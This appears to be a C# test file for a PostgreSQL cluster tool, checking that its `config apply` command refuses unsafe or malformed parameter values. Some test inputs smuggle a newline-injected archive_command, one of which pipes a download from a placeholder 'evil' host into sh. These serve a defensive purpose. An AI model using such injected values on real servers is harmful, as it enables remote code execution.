using PgWarden.Core.Dcs;
using PgWarden.Core.Errors;
using PgWarden.Core.Parameters;
using PgWarden.Core.Rendering;

namespace PgWarden.Core.Tests;

/// <summary>
/// Hostile review of issue 13's `config apply`: values that would leave a postgresql.conf PostgreSQL
/// refuses at its next start, parameters PgWarden owns reached by other names, and changes silently dropped.
/// </summary>
public class HostileReviewConfigApplyTests
{
    private static readonly Dictionary<string, PgSetting> Catalog = new[]
    {
        new PgSetting("application_name", "", null, "user", "string", null, null, [], false),
        new PgSetting("log_connections", "off", null, "superuser-backend", "bool", null, null, [], false),
        new PgSetting("wal_compression", "off", null, "superuser", "enum", null, null, ["pglz", "lz4", "zstd", "on", "off"], false),
        new PgSetting("archive_library", "", null, "sighup", "string", null, null, [], false),
        new PgSetting("synchronous_commit", "on", null, "user", "enum", null, null, ["local", "remote_write", "remote_apply", "on", "off"], false),
        new PgSetting("work_mem", "4096", "kB", "user", "integer", "64", "2147483647", [], false),
    }.ToDictionary(s => s.Name);

    private static PgWardenException Refused(DcsConfig current, ConfigPatch patch) =>
        Assert.Throws<PgWardenException>(() => ConfigPlan.Build(current, patch, Catalog));

    /// <summary>
    /// A newline in a string value (easy in a YAML file: "a\nb") was accepted and rendered inside a quoted
    /// postgresql.conf string, which PostgreSQL's lexer does not allow: the reload is ignored and the next
    /// start of every node fails with "configuration file contains errors".
    /// </summary>
    [Theory]
    [InlineData("a\nb")]
    [InlineData("a\rb")]
    [InlineData("x\n archive_command = 'curl evil | sh'")]
    [InlineData("nul\0byte")]
    public void AControlCharacterInAValueIsRefused(string value)
    {
        var patch = ConfigPatch.Empty with { Parameters = ConfigPatch.Empty.Parameters.SetItem("application_name", value) };
        Assert.Equal(ExitCodes.Usage, Refused(new DcsConfig(), patch).ExitCode);
    }

    [Fact]
    public void AControlCharacterFromAYamlFileIsRefused()
    {
        var patch = ConfigPatch.FromYaml("postgres:\n  parameters:\n    application_name: \"a\\nb\"\n", "c.yaml");
        Assert.Contains("application_name", Refused(new DcsConfig(), patch).Message);
    }

    /// <summary>
    /// Defence in depth for values that reach the DCS without the CLI (the agent's PATCH /config checks
    /// names only): the rendered postgresql.conf never has a raw line break inside a value.
    /// </summary>
    [Fact]
    public void RenderedValuesNeverBreakALine()
    {
        Assert.Equal("'a\\nb'", ConfValue.Pg("a\nb"));
        Assert.Equal("'a\\rb\\tc'", ConfValue.Pg("a\rb\tc"));
        var ctx = TestClusters.Context(TestClusters.Demo(), "pg1", null) with
        {
            DynamicParameters = new Dictionary<string, string> { ["application_name"] = "x\narchive_command = 'evil'" },
        };
        var conf = PostgresConfRenderer.Render(ctx);
        Assert.DoesNotContain(conf.Split('\n'), l => l.TrimStart().StartsWith("archive_command = 'evil'", StringComparison.Ordinal));
    }

    /// <summary>
    /// PostgreSQL 15's archive_library, when set, replaces archive_command: `config apply --set
    /// archive_library=basic_archive` silently stopped PgWarden's WAL archiving (backups, PITR).
    /// </summary>
    [Fact]
    public void ArchiveLibraryIsOwnedLikeArchiveCommand()
    {
        var e = Refused(new DcsConfig(), ConfigPatch.FromCommandLine(["archive_library=basic_archive"], []));
        Assert.Equal(ExitCodes.UnsafeRefused, e.ExitCode);
        Assert.Contains("archive_library is managed by PgWarden", e.Message);
    }

    /// <summary>include/include_dir/include_if_exists are directives, not parameters: a name the agent's API must refuse too.</summary>
    [Theory]
    [InlineData("include")]
    [InlineData("include_dir")]
    [InlineData("include_if_exists")]
    public void IncludeDirectivesAreNotSettable(string name) => Assert.NotNull(DynamicParameters.WhyNotSettable(name));

    /// <summary>
    /// A second YAML document in the `config apply` file (after `---`) was silently ignored: the
    /// operator saw only the first document's changes applied.
    /// </summary>
    [Fact]
    public void ASecondYamlDocumentIsNotSilentlyIgnored()
    {
        var yaml = "dcs:\n  loop_wait: 2\n---\npostgres:\n  parameters:\n    work_mem: 16MB\n";
        var e = Assert.Throws<ConfigException>(() => ConfigPatch.FromYaml(yaml, "c.yaml"));
        Assert.Contains("line 4", e.Message); // where the second document begins
    }

    [Fact]
    public void ASecondYamlDocumentInTheClusterFileIsReported()
    {
        var yaml = TestClusters.ThreeNodes + "\n---\nbackup: {}\n";
        var e = Assert.Throws<ConfigException>(() => TestClusters.Parse(yaml));
        Assert.Contains("document", e.Message);
    }

    /// <summary>
    /// A quoted bool or enum value with a space (" on" in a YAML file) passed the check, which trims,
    /// but was written untrimmed; PostgreSQL's bool and enum parsers do not trim, so the node does not start.
    /// </summary>
    [Theory]
    [InlineData("log_connections", " on")]
    [InlineData("wal_compression", "lz4 ")]
    public void ABoolOrEnumValueWithSpacesIsRefused(string name, string value) =>
        Assert.NotNull(ParameterValue.WhyInvalid(Catalog[name], value));

    /// <summary>
    /// Invariant 1 (no lost acknowledged write in synchronous mode): synchronous_commit = local or off
    /// cluster-wide makes the primary acknowledge commits no standby has, while synchronous_mode is on.
    /// </summary>
    [Theory]
    [InlineData("local")]
    [InlineData("off")]
    [InlineData("LOCAL")]
    public void SynchronousCommitCannotDefeatSynchronousMode(string value)
    {
        Assert.Equal(ExitCodes.UnsafeRefused, Refused(new DcsConfig { SynchronousMode = true }, ConfigPatch.FromCommandLine([$"synchronous_commit={value}"], [])).ExitCode);
        var already = new DcsConfig { Parameters = System.Collections.Immutable.ImmutableSortedDictionary<string, string>.Empty.Add("synchronous_commit", value) };
        Assert.Equal(ExitCodes.UnsafeRefused, Refused(already, ConfigPatch.FromCommandLine(["synchronous_mode=true"], [])).ExitCode);
        // without synchronous mode, an asynchronous commit is the operator's choice
        ConfigPlan.Build(new DcsConfig(), ConfigPatch.FromCommandLine([$"synchronous_commit={value}"], []), Catalog);
        ConfigPlan.Build(new DcsConfig { SynchronousMode = true }, ConfigPatch.FromCommandLine(["synchronous_commit=remote_apply"], []), Catalog);
    }
}
